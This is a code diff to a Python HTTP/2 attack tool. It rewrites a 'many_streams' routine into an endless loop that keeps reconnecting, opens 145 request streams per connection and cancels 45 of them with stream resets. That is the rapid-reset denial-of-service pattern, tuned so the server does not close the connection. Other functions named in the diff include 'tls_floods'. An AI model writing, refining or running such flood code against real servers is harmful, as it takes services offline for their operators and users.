@@ -184,8 +184,9 @@ class Http2:
     """A connection by prior knowledge."""
 
     def __init__(self, attack):
-        self.attack, self.socket = attack, attack.connect()
-        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(validate_inbound_headers=False))
+        self.attack, self.socket, self.answers = attack, attack.connect(), 0
+        config = h2.config.H2Configuration(validate_inbound_headers=False, header_encoding="utf-8")
+        self.h2 = h2.connection.H2Connection(config)
         self.h2.initiate_connection()
         self.flush()
 
@@ -201,6 +202,9 @@ class Http2:
             return True
         with contextlib.suppress(h2.exceptions.ProtocolError):
             for event in self.h2.receive_data(data):
+                if isinstance(event, h2.events.ResponseReceived):
+                    self.answers += 1
+                    self.attack.count(f"status {dict(event.headers)[':status']}")
                 if isinstance(event, h2.events.StreamReset):
                     self.attack.count("reset_by_server")
                 if isinstance(event, h2.events.ConnectionTerminated):
@@ -260,15 +264,19 @@ def unknown_frames(attack):
 
 
 def many_streams(attack):
-    """More requests at once than a connection may have, none of them dropped too often."""
-    connection = Http2(attack)
-    for number in range(99):
-        connection.h2.send_headers(2 * number + 1, HEADERS, end_stream=True)
-        if number < 40:
-            connection.h2.reset_stream(2 * number + 1, h2.errors.ErrorCodes.CANCEL)
-    connection.flush()
-    while attack.going_on() and connection.read(0.1):
-        pass
+    """More requests at once than a connection may have, with those that it drops: too few to be ended for that."""
+    while attack.going_on():
+        with contextlib.suppress(OSError):
+            connection = Http2(attack)
+            with connection.socket:
+                for number in range(145):
+                    connection.h2.send_headers(2 * number + 1, HEADERS, end_stream=True)
+                    if number < 45:
+                        connection.h2.reset_stream(2 * number + 1, h2.errors.ErrorCodes.CANCEL)
+                attack.count("sent", 145)
+                connection.flush()
+                while connection.answers < 100 and attack.going_on() and connection.read(0.1):
+                    pass
 
 
 def tls_floods(attack):
